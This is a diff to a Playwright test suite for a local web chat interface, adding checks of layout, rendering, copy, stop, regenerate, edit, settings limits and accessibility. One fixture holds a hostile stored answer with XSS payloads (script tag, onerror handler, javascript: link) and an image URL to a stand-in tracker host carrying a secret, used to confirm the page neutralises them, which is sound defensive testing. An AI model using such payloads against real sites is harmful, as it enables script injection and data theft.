@@ -139,8 +139,8 @@ async function main() {
 
     // Rename, then delete (two clicks).
     await page.click(`#conversations li[data-id="${convId}"] button.rename`);
-    await page.fill(`#conversations li[data-id="${convId}"] .entry input`, 'First chat, renamed');
-    await page.press(`#conversations li[data-id="${convId}"] .entry input`, 'Enter');
+    await page.fill(`#conversations li[data-id="${convId}"] input`, 'First chat, renamed');
+    await page.press(`#conversations li[data-id="${convId}"] input`, 'Enter');
     await page.waitForFunction((id) => { const t = document.querySelector(`#conversations li[data-id="${id}"] .title`); return t && t.textContent === 'First chat, renamed'; }, convId, { timeout: 10000 });
     const stored = await (await fetch(`${srv.url}/v1/conversations/${convId}`)).json();
     check('rename: the server keeps the new title', stored.metadata && stored.metadata.title === 'First chat, renamed', stored);
@@ -175,13 +175,278 @@ async function main() {
     await page.fill('#prompt', 'My baby is not breathing and turning blue');
     await page.click('#send');
     await page.waitForSelector('.msg.assistant .safety-banner.emergency', { timeout: 60000 });
+    await page.waitForFunction(() => document.querySelector('.msg.assistant .final').getAttribute('aria-busy') === 'false', null, { timeout: 60000 });
     const banner = await page.$eval('.msg.assistant', (m) => ({ banner: m.querySelector('.safety-banner').textContent,
-      answer: m.querySelector('.final').textContent }));
-    check('safety: an emergency banner, and the answer starts with the guidance', /call 112 now/.test(banner.banner) &&
-      banner.answer.startsWith('**If this may be an emergency, call 112 now.**'), banner);
+      answer: m.querySelector('.final').textContent, strong: (m.querySelector('.final strong') || {}).textContent }));
+    check('safety: an emergency banner, and the answer starts with the guidance (in bold)', /call 112 now/.test(banner.banner) &&
+      banner.answer.startsWith('If this may be an emergency, call 112 now.') && banner.strong === 'If this may be an emergency, call 112 now.', banner);
 
     check('no request left the server (offline, no CDN)', outside.length === 0, outside);
     check('no page errors', consoleErrors.length === 0, consoleErrors);
+  } finally {
+    await browser.close();
+    srv.proc.kill('SIGTERM');
+    await waitExit(srv.proc, 30000);
+  }
+}
+
+// The web chat as people use it: the layout at a phone's, a tablet's and a desktop's size in
+// both themes (no element wider than the screen, every mode button visible and tappable,
+// screenshots saved); Markdown, code, tables and math rendered, and HTML in an answer never run;
+// copy, regenerate and edit-and-resend; Stop that stops every agent; New chat during a stream
+// starts clean; settings per mode bounded by the server's limits; the planner's progress;
+// keyboard focus; axe-core finds no serious violations.
+async function polish() {
+  const srv = await startServer(muse, ['--threads', '2', '--quiet'], env);
+  const browser = await chromium.launch({ executablePath: chromiumPath, headless: true, args: ['--no-sandbox', '--disable-gpu'] });
+  const api = async (p, body, method) => {
+    const r = await fetch(srv.url + p, body === undefined ? { method: method || 'GET' } : { method: method || 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify(body) });
+    return { status: r.status, json: await r.json().catch(() => null) };
+  };
+  try {
+    const context = await browser.newContext({ viewport: { width: 1400, height: 900 } });
+    await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: srv.url });
+    const page = await context.newPage();
+    const errors = [];
+    page.on('pageerror', (e) => errors.push(String(e)));
+    page.on('console', (m) => { if (m.type() === 'error') errors.push(m.text()); });
+    const outside = [];
+    page.on('request', (r) => { if (!r.url().startsWith(srv.url) && !/^(data|blob):/.test(r.url())) outside.push(r.url()); });
+    const chatBodies = [];
+    page.on('request', (r) => { if (r.url().endsWith('/v1/chat/completions') && r.method() === 'POST') chatBodies.push(JSON.parse(r.postData())); });
+    const ready = () => page.waitForFunction(() => /smoke/.test(document.querySelector('#model-name').textContent), null, { timeout: 20000 });
+    const answered = (n) => page.waitForFunction((k) => {
+      const a = document.querySelectorAll('.msg.assistant .final');
+      return a.length === k && a[k - 1].getAttribute('aria-busy') === 'false' && !!document.querySelector('#stop[hidden]');
+    }, n, { timeout: 120000 });
+
+    // A stored answer with everything Markdown has, and HTML that must never run.
+    const hostile = 'Here is **bold**, `inline code` and a [bad link](javascript:window.__xss=3).\n\n' +
+      '<script>window.__xss = 1</script>\n<img src="x" onerror="window.__xss = 2">\n\n' +
+      '```js\nconst answer = 42; // the code\n```\n\n| city | people |\n|---|---|\n| Lisbon | 545000 |\n\n' +
+      'Inline math $a^2 + b^2 = c^2$ and a block:\n\n$$\\int_0^1 x^2\\,dx = \\frac{1}{3}$$\n\n' +
+      'A pixel that would carry a secret out: ![tracker](http://tracker.example/p.png?secret=4831)\n';
+    const conv = await api('/v1/conversations', { metadata: { title: 'Rendering' },
+      items: [{ role: 'user', content: '<b>not bold</b> please' }, { role: 'assistant', content: hostile }] });
+    check('a stored conversation with a hostile answer', conv.status === 200, conv);
+    await page.goto(`${srv.url}/#${conv.json.id}`);
+    await ready();
+    await page.waitForSelector('.msg.assistant .final strong', { timeout: 20000 });
+    const r = await page.$eval('.msg.assistant .final', (a) => ({
+      xss: window.__xss, scripts: a.querySelectorAll('script').length, imgs: [...a.querySelectorAll('img')].map((i) => i.outerHTML),
+      strong: a.querySelector('strong') && a.querySelector('strong').textContent,
+      code: !!a.querySelector('pre code.hljs span'), katex: a.querySelectorAll('.katex').length, display: a.querySelectorAll('.katex-display').length,
+      table: !!a.querySelector('table td'), links: [...a.querySelectorAll('a')].map((l) => l.getAttribute('href')),
+      codeCopy: !!a.querySelector('pre button.copy-code'), imageLinks: [...a.querySelectorAll('.image-link')].map((l) => l.getAttribute('href')),
+    }));
+    check('render: bold, highlighted code, a table, inline and display math', r.strong === 'bold' && r.code && r.table && r.katex >= 2 && r.display === 1, r);
+    check('render: HTML in the answer never runs (no script, no handler, no javascript: link)', r.xss === undefined && r.scripts === 0 &&
+      r.imgs.every((i) => !/onerror/i.test(i)) && r.links.every((h) => !h || !/^javascript:/i.test(h)), r);
+    check('render: an image in an answer does not load (no request carries the secret out); it is a link to open', r.imgs.length === 0 &&
+      r.imageLinks.includes('http://tracker.example/p.png?secret=4831'), r);
+    check('render: a user message is text, its HTML shown as typed', await page.$eval('.msg.user .answer', (u) => u.textContent === '<b>not bold</b> please' && !u.querySelector('b')));
+
+    // Copy: the answer as written, and a code block.
+    await page.click('.msg.assistant .tools button.copy');
+    check('copy: the answer goes to the clipboard as written', await page.evaluate(() => navigator.clipboard.readText()) === hostile);
+    await page.click('.msg.assistant pre button.copy-code');
+    check('copy: a code block alone', (await page.evaluate(() => navigator.clipboard.readText())).trim() === 'const answer = 42; // the code');
+
+    // The layout at three sizes, light and dark: nothing wider than the screen, every mode
+    // button visible and tappable, the header in at most two rows, the placeholder fits.
+    const layout = () => page.evaluate(() => {
+      const W = document.documentElement.clientWidth;
+      const scrolls = (e) => { for (let p = e.parentElement; p; p = p.parentElement) { const o = getComputedStyle(p).overflowX; if (o === 'auto' || o === 'scroll' || o === 'hidden') return p !== document.body && p !== document.documentElement; } return false; };
+      const wide = [];
+      for (const e of document.querySelectorAll('body *')) {
+        const b = e.getBoundingClientRect();
+        if (!b.width || getComputedStyle(e).visibility === 'hidden') continue;
+        if ((b.right > W + 1 || b.left < -1) && !scrolls(e) && !e.closest('dialog:not([open])') && !e.closest('#sidebar') && !e.closest('.sr-only')) wide.push(e.tagName + '.' + e.className + ' ' + Math.round(b.left) + '..' + Math.round(b.right));
+      }
+      const modes = [...document.querySelectorAll('.modes button')].map((b) => {
+        const r = b.getBoundingClientRect();
+        const hit = document.elementFromPoint(r.left + r.width / 2, r.top + r.height / 2);
+        return { mode: b.dataset.mode, visible: r.width > 20 && r.left >= 0 && r.right <= W && hit && (hit === b || b.contains(hit)), clipped: b.scrollWidth > b.clientWidth + 1 };
+      });
+      const ta = document.querySelector('#prompt');
+      const ctx = document.createElement('canvas').getContext('2d');
+      ctx.font = getComputedStyle(ta).font;
+      return { W, scrollW: document.documentElement.scrollWidth, wide: wide.slice(0, 8), modes, header: document.querySelector('header.top').getBoundingClientRect().height,
+        placeholder: ctx.measureText(ta.placeholder).width <= ta.clientWidth - 20 };
+    });
+    for (const scheme of ['light', 'dark']) {
+      await page.emulateMedia({ colorScheme: scheme });
+      for (const [w, h] of [[390, 844], [768, 1024], [1400, 900]]) {
+        await page.setViewportSize({ width: w, height: h });
+        const l = await layout();
+        check(`layout ${w}x${h} ${scheme}: nothing wider than the screen`, l.scrollW <= l.W && l.wide.length === 0, l);
+        check(`layout ${w}x${h} ${scheme}: every mode button visible, whole and tappable`, l.modes.every((m) => m.visible && !m.clipped), l.modes);
+        check(`layout ${w}x${h} ${scheme}: the header takes at most two rows, the placeholder fits`, l.header <= 100 && l.placeholder, l);
+        for (const m of ['thinking', 'contemplating', 'auto', 'instant']) await page.click(`button[data-mode="${m}"]`);
+        check(`layout ${w}x${h} ${scheme}: a tap picks the mode`, await page.$eval('button[data-mode="instant"]', (b) => b.getAttribute('aria-pressed')) === 'true');
+        const shot = path.join(work, `web-${w}x${h}-${scheme}.png`);
+        await page.screenshot({ path: shot });
+        check(`layout ${w}x${h} ${scheme}: screenshot saved`, fs.statSync(shot).size > 5000, shot);
+      }
+    }
+    await page.setViewportSize({ width: 1400, height: 900 });
+    await page.emulateMedia({ colorScheme: 'light' });
+
+    // Settings per mode, bounded by the server's limits.
+    const limits = (await api('/v1/limits')).json;
+    check('/v1/limits names the limits', limits && Number.isInteger(limits.max_agents) && Number.isInteger(limits.max_thinking_budget), limits);
+    await page.click('#new-chat');
+    await page.click('button[data-mode="instant"]');
+    // Shown means laid out on the screen (a CSS display rule once showed labels marked hidden).
+    const shown = (ids) => page.evaluate((list) => list.map((id) => document.querySelector(id).getClientRects().length > 0), ids);
+    const fields = ['#agents', '#budget', '#planner', '#planner-budget', '#max-tokens', '#temperature'];
+    const inInstant = await shown(fields);
+    check('settings: Instant shows no agents, budget or planner; max tokens and temperature it does', inInstant.join() === 'false,false,false,false,true,true', inInstant);
+    await page.click('button[data-mode="thinking"]');
+    const inThinking = await shown(fields);
+    check('settings: Thinking shows the budget but no agents or planner', inThinking.join() === 'false,true,false,false,true,true', inThinking);
+    await page.click('button[data-mode="contemplating"]');
+    const inContemplating = await shown(fields);
+    check('settings: Contemplating shows agents, budget and the planner', inContemplating.every(Boolean), inContemplating);
+    const sent = chatBodies.length;
+    await page.fill('#agents', String(limits.max_agents + 1));
+    await page.fill('#prompt', 'Too many agents');
+    await page.click('#send');
+    await page.waitForFunction(() => /agents must be/.test(document.querySelector('#form-error').textContent), null, { timeout: 5000 });
+    check('settings: more agents than the server allows is refused by the form, naming the limit', chatBodies.length === sent &&
+      (await page.$eval('#form-error', (e) => e.textContent)).includes(String(limits.max_agents)));
+    await page.fill('#agents', '4');
+    await page.fill('#budget', String(limits.max_thinking_budget + 1));
+    await page.click('#send');
+    await page.waitForFunction(() => /thinking budget must be/.test(document.querySelector('#form-error').textContent), null, { timeout: 5000 });
+    check('settings: a budget above the server limit is refused too', chatBodies.length === sent);
+    await page.fill('#budget', '400');
+    await page.fill('#planner-budget', String(limits.planner_budget.min - 1));
+    await page.click('#send');
+    await page.waitForFunction(() => /planner budget must be/.test(document.querySelector('#form-error').textContent), null, { timeout: 5000 });
+    check('settings: a planner budget under the server\'s minimum is refused, naming its range', chatBodies.length === sent &&
+      (await page.$eval('#form-error', (e) => e.textContent)).includes(`from ${limits.planner_budget.min} to ${limits.planner_budget.max}`));
+
+    // Contemplating with the planner: its column counts tokens, the plan reads as a summary,
+    // then Stop: every agent says it stopped.
+    await page.fill('#budget', '400');
+    await page.fill('#max-tokens', '400');
+    await page.fill('#planner-budget', '64');
+    await page.fill('#prompt', 'Plan a week of meals for a family of four, with a shopping list');
+    await page.click('#send');
+    await page.waitForFunction(() => document.querySelectorAll('.msg.assistant:last-child .agent-col[data-kind="solver"]').length >= 2, null, { timeout: 120000 });
+    const body = chatBodies[chatBodies.length - 1];
+    check('contemplating: the request carries the planner switch and its budget', body.planner === true && body.planner_budget === 64 && body.agents === 4, body);
+    const planner = await page.$eval('.msg.assistant:last-child', (m) => {
+      const c = m.querySelector('.agent-col[data-kind="planner"]');
+      return c && { state: c.querySelector('.state').textContent, raw: c.querySelector('details') && !c.querySelector('details').open,
+                    label: (m.querySelector('.plan .label') || {}).textContent || '' };
+    });
+    check('planner: its progress in tokens, its JSON out of sight, the plan in words', planner && /^(planning… \d+ tokens|planned · \d+ tokens)$/.test(planner.state) &&
+      planner.raw && /^planned (as one task( \([a-z' ]+\))?|\d+ sub-tasks)$/.test(planner.label) && !/fallback|depends on|task '/.test(planner.label), planner);
+    const stopAt = await page.$$eval('.msg.assistant:last-child .agent-col', (a) => a.length);
+    const inView = await page.$$eval('.msg.assistant:last-child .agent-col', (a) => a.map((c) => { const b = c.getBoundingClientRect(); return { kind: c.dataset.kind, left: Math.round(b.left), right: Math.round(b.right), W: document.documentElement.clientWidth }; }));
+    check('contemplating at 1400 px with 4 agents: every column whole on the screen (they wrap, none cut off)',
+      inView.filter((c) => c.kind === 'solver').length === 4 && inView.every((c) => c.left >= 0 && c.right <= c.W), inView);
+    await page.click('#stop');
+    await page.waitForSelector('#stop[hidden]', { state: 'attached', timeout: 20000 }).catch(async (e) => {
+      await page.screenshot({ path: path.join(work, 'web-stop-failed.png') });
+      throw new Error('Stop did not end the request: ' + JSON.stringify(await page.evaluate(() => ({ status: document.querySelector('#status').textContent,
+        last: document.querySelector('.msg.assistant:last-child').textContent.slice(-300) }))));
+    });
+    const cols = await page.$$eval('.msg.assistant:last-child .agent-col', (a) => a.map((c) => ({ cls: c.className, state: c.querySelector('.state').textContent })));
+    check('stop: no agent still says thinking; those cut say stopped', stopAt > 0 && cols.every((c) => !/\bthinking\b/.test(c.cls) && !/^thinking/.test(c.state)) &&
+      cols.some((c) => /stopped/.test(c.state) || /answered|planned|pruned/.test(c.state)), cols);
+    check('stop: Send is back', await page.$eval('#send', (b) => !b.hidden));
+
+    // New chat while an answer streams: the request is cancelled, the page is clean, and the
+    // next request carries nothing of the old chat.
+    await page.click('#new-chat');
+    await page.click('button[data-mode="thinking"]');
+    await page.fill('#max-tokens', '3000');
+    await page.fill('#budget', '2000');
+    await page.fill('#prompt', 'OLDCHAT tell me a very long story');
+    await page.click('#send');
+    await page.waitForFunction(() => { const t = document.querySelector('.msg.assistant:last-child'); return t && !document.querySelector('#stop').hidden && (t.textContent.length > 40); }, null, { timeout: 60000 });
+    const oldConv = page.url().split('#')[1];
+    const stillRunning = await page.$eval('#stop', (b) => !b.hidden);
+    await page.click('#new-chat');
+    check('new chat during a stream: the page is clean at once, Send is back', stillRunning && await page.evaluate(() =>
+      document.querySelectorAll('.msg').length === 0 && !document.querySelector('#send').hidden && document.querySelector('#stop').hidden));
+    await page.click('button[data-mode="instant"]');
+    await page.fill('#max-tokens', '8');
+    await page.fill('#prompt', 'A fresh question');
+    await page.click('#send');
+    await answered(1);
+    const fresh = chatBodies[chatBodies.length - 1];
+    const freshText = JSON.stringify(fresh);
+    check('new chat during a stream: the next request carries nothing of the old chat', !/OLDCHAT/.test(freshText) && fresh.messages.length === 1 &&
+      fresh.messages[0].role === 'user' && fresh.conversation !== oldConv, fresh);
+    check('new chat during a stream: the old answer never shows in the new chat', await page.evaluate(() =>
+      document.querySelectorAll('.msg').length === 2 && !/OLDCHAT/.test(document.querySelector('#thread').textContent)));
+
+    // Regenerate: the stored conversation keeps one exchange, with the new answer.
+    const convA = page.url().split('#')[1];
+    await page.fill('#prompt', 'Second question');
+    await page.click('#send');
+    await answered(2);
+    const before = chatBodies.length;
+    const oldTurn = await page.$('.msg.assistant:last-child');
+    await page.click('.msg.assistant:last-child .tools button.regenerate');
+    await page.waitForFunction((t) => !t.isConnected, oldTurn, { timeout: 60000 });  // the old answer gives way
+    await answered(2);
+    const regen = chatBodies[chatBodies.length - 1];
+    const itemsA = (await api(`/v1/conversations/${convA}/items?order=asc`)).json.data;
+    check('regenerate: the same message and settings are sent again', chatBodies.length === before + 1 && regen.messages[0].content === 'Second question' &&
+      regen.max_tokens === 8 && regen.mode === 'instant', regen);
+    check('regenerate: the stored conversation keeps one answer to it', itemsA.length === 4 && itemsA[2].content[0].text === 'Second question' &&
+      itemsA[3].role === 'assistant', itemsA.map((i) => i.role));
+
+    // Edit the second message and send it: a fork, the original untouched.
+    await page.click('.msg.user:nth-of-type(3) .tools button.edit').catch(async () => {
+      const users = await page.$$('.msg.user .tools button.edit');
+      await users[1].click();
+    });
+    await page.waitForSelector('.msg.user textarea', { timeout: 5000 });
+    await page.fill('.msg.user textarea', 'Second question, edited');
+    await page.click('.msg.user .tools button.primary');
+    await page.waitForFunction((old) => location.hash && location.hash.slice(1) !== old, convA, { timeout: 20000 });
+    await answered(2);
+    const convB = page.url().split('#')[1];
+    const itemsB = (await api(`/v1/conversations/${convB}/items?order=asc`)).json.data;
+    const itemsA2 = (await api(`/v1/conversations/${convA}/items?order=asc`)).json.data;
+    check('edit: a new conversation with the messages before the edit, then the edited one and its answer', itemsB.length === 4 &&
+      itemsB[0].content[0].text === 'A fresh question' && itemsB[2].content[0].text === 'Second question, edited' && itemsB[3].role === 'assistant',
+      itemsB.map((i) => i.role + ':' + (i.content[0] || {}).text));
+    check('edit: the original conversation is as it was', itemsA2.length === 4 && itemsA2[2].content[0].text === 'Second question');
+
+    // Keyboard: focus is visible; the mode picker works from the keyboard.
+    await page.focus('#prompt');
+    await page.keyboard.press('Shift+Tab');
+    const focused = await page.evaluate(() => { const e = document.activeElement; const s = getComputedStyle(e); return { id: e.id, outline: s.outlineStyle, width: s.outlineWidth }; });
+    check('keyboard: the focused control shows a focus ring', focused.outline !== 'none' && focused.width !== '0px', focused);
+    await page.focus('button[data-mode="thinking"]');
+    await page.keyboard.press('Enter');
+    check('keyboard: Enter on a mode button picks it', await page.$eval('button[data-mode="thinking"]', (b) => b.getAttribute('aria-pressed')) === 'true');
+    check('the answer is announced as it streams (aria-live)', await page.$eval('.msg.assistant .final', (a) => a.getAttribute('aria-live') === 'polite'));
+
+    // axe-core, both themes, with content on the page.
+    const axePath = require.resolve('axe-core/axe.min.js');
+    await page.goto(`${srv.url}/#${conv.json.id}`);
+    await ready();
+    await page.waitForSelector('.msg.assistant .final strong', { timeout: 20000 });
+    for (const scheme of ['light', 'dark']) {
+      await page.emulateMedia({ colorScheme: scheme });
+      await page.addScriptTag({ path: axePath });
+      const res = await page.evaluate(() => window.axe.run(document, { runOnly: { type: 'tag', values: ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa'] } }));
+      const bad = res.violations.filter((v) => v.impact === 'serious' || v.impact === 'critical')
+        .map((v) => ({ id: v.id, impact: v.impact, nodes: v.nodes.slice(0, 3).map((n) => n.target.join(' ') + ' ' + (n.failureSummary || '').slice(0, 160)) }));
+      check(`axe-core (${scheme}): no serious or critical violations`, bad.length === 0, bad);
+    }
+    const fav = await fetch(srv.url + '/favicon.ico');
+    check('a favicon', fav.status === 200 && /svg/.test(fav.headers.get('content-type') || ''), fav.status);
+    check('no request left the server (offline, no CDN)', outside.length === 0, outside);
+    check('no page or console errors', errors.length === 0, errors);
   } finally {
     await browser.close();
     srv.proc.kill('SIGTERM');
@@ -205,7 +470,7 @@ async function tiny() {
 
     const ask = async (mode, agents, temperature) => {
       await page.click(`button[data-mode="${mode}"]`);
-      await page.fill('#agents', String(agents));
+      if (mode === 'contemplating') await page.fill('#agents', String(agents));
       await page.fill('#temperature', String(temperature));
       await page.fill('#prompt', 'What is 487 + 356?');
       const before = await page.$$eval('.msg.assistant', (a) => a.length);
@@ -237,4 +502,7 @@ async function tiny() {
   }
 }
 
-main().then(tiny).then(() => process.exit(summary()), (e) => { console.log('FAIL exception: ' + (e.stack || e)); summary(); process.exit(1); });
+// MUSE_WEB_TESTS=polish,tiny runs only those parts (while working on one).
+const parts = { main, polish, tiny };
+const only = (process.env.MUSE_WEB_TESTS || 'main,polish,tiny').split(',');
+only.reduce((p, name) => p.then(() => { if (!parts[name]) throw new Error(`no part '${name}' (main, polish, tiny)`); return parts[name](); }), Promise.resolve()).then(() => process.exit(summary()), (e) => { console.log('FAIL exception: ' + (e.stack || e)); summary(); process.exit(1); });
